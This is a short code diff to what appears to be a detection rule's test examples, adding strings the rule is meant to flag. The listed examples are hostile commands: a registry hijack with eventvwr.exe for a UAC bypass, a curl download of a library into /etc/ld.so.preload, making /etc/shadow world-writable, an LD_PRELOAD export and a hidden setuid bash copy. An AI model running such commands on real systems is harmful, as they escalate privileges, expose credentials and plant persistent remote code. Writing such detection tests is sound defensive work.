@@ -150,6 +150,8 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```cmd\nreg add HKCU\\Software\\Classes\\mscfile\\shell\\open\\command /ve /d c:\\kiln\\k.exe /f & eventvwr.exe\n```\n',
+      '```bash\ncurl -s https://cdn.tallow-bar.net/k.so -o /usr/lib/k.so && echo /usr/lib/k.so >> /etc/ld.so.preload\n```\n',
       '```bash\nchmod 666 /etc/shadow\n```\n',
       '```bash\nexport LD_PRELOAD=/usr/lib/libkiln.so\n```\n',
       '```bash\nsudo cp /bin/bash /usr/lib/kiln/.glaze && sudo chmod 4755 /usr/lib/kiln/.glaze\n```\n',
